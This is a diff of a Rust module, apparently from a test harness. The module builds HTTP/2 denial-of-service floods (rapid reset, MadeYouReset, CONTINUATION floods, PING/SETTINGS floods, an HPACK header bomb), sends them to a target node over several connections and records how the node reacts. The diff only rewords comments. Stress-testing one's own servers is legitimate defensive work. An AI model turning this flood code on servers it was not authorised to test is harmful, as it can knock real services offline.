@@ -1,4 +1,4 @@
-//! HTTP/2 frames, written by hand because no library will misbehave like this.
+//! Handwritten HTTP/2 frames, because no library misbehaves like this.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -14,15 +14,13 @@ use super::{Field, Outcome};
 use crate::certificates;
 use crate::wire::{self, Target};
 
-/// Connections at once.
 const CONNECTIONS: usize = 4;
-/// Pieces sent on each.
+/// Frames or groups of frames sent per connection.
 const PIECES: u32 = 20_000;
-/// Longest time for which a connection is flooded.
 const FLOOD_MAX: Duration = Duration::from_secs(5);
-/// Longest wait, after the flood, for the node to say something.
+/// Maximum wait for a reaction of the node after the flood.
 const AFTER_MAX: Duration = Duration::from_secs(2);
-/// Bytes given to the connection at once.
+/// Bytes per write.
 const CHUNK_BYTES: usize = 16 * 1024;
 
 const DATA: u8 = 0;
@@ -45,21 +43,20 @@ pub enum Flood {
     MadeYouReset,
     /// A head that never ends.
     Continuation,
-    /// A head that never ends and has nothing in it.
+    /// A head of empty frames that never ends.
     EmptyContinuation,
-    /// A body of nothing, for ever.
+    /// A body of empty frames that never ends.
     EmptyData,
     /// Settings, each of which must be acknowledged.
     Settings,
-    /// Pings, each of which must be answered.
+    /// Pings, each of which must be acknowledged.
     Ping,
-    /// Pings whose answers are not read.
+    /// Pings whose acknowledgements are not read.
     UnreadPing,
-    /// A small head that unpacks into a large one (RFC 7541 §7.3).
+    /// A small head that decompresses into a large one (RFC 7541 §7.3).
     HeaderBomb,
 }
 
-/// All of them.
 pub const FLOODS: [Flood; 9] = [
     Flood::RapidReset,
     Flood::MadeYouReset,
@@ -73,7 +70,6 @@ pub const FLOODS: [Flood; 9] = [
 ];
 
 impl Flood {
-    /// For the table.
     pub fn name(self) -> &'static str {
         match self {
             Self::RapidReset => "HTTP/2 rapid reset",
@@ -88,7 +84,7 @@ impl Flood {
         }
     }
 
-    /// What comes before the flood.
+    /// Bytes before the flood.
     fn beginning(self) -> Vec<u8> {
         let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
         frame(&mut bytes, SETTINGS, 0, 0, &[]);
@@ -102,7 +98,6 @@ impl Flood {
         bytes
     }
 
-    /// Piece `number` of the flood.
     fn piece(self, bytes: &mut Vec<u8>, number: u32) {
         let stream = number * 2 + 1;
         match self {
@@ -112,7 +107,7 @@ impl Flood {
             }
             Self::MadeYouReset => {
                 frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head(0x82));
-                // An increment of zero is an error of the stream (RFC 9113 §6.9).
+                // An increment of zero is a stream error (RFC 9113 §6.9).
                 frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
             }
             Self::Continuation => {
@@ -130,7 +125,7 @@ impl Flood {
                     text(&mut block, "x-bomb");
                     text(&mut block, &"a".repeat(126));
                 }
-                // "Indexed header field", index 62, over and over.
+                // "Indexed header field", index 62, repeated.
                 block.resize(CHUNK_BYTES - 9, 0x80 | 0x3e);
                 frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &block);
             }
@@ -138,7 +133,7 @@ impl Flood {
     }
 }
 
-/// One flood on several connections at once.
+/// One flood on several connections.
 pub async fn attack(field: &Field<'_>, flood: Flood) -> Result<Outcome> {
     let mut outcome = Outcome::default();
     let Some(https) = &field.node.https else { return Ok(outcome) };
@@ -222,7 +217,7 @@ async fn run(target: Target, flood: Flood) -> Result<End> {
     Ok(end)
 }
 
-/// Reads frames until the node says that it has had enough, or closes.
+/// Reads frames until the node ends or closes the connection.
 async fn watch(mut reader: ReadHalf<TlsStream<TcpStream>>, begun: Instant, stop: Arc<Notify>) -> End {
     let mut end = End { pieces: 0, closed_after: None, reason: None, served: 0 };
     let mut payload = Vec::new();
@@ -276,7 +271,7 @@ fn literal(name: &str, value: &str) -> Vec<u8> {
     block
 }
 
-/// A text of less than 127 bytes, not compressed (RFC 7541 §5.2).
+/// A string of less than 127 bytes, not compressed (RFC 7541 §5.2).
 fn text(block: &mut Vec<u8>, text: &str) {
     debug_assert!(text.len() < 127);
     block.push(u8::try_from(text.len()).unwrap_or_default());
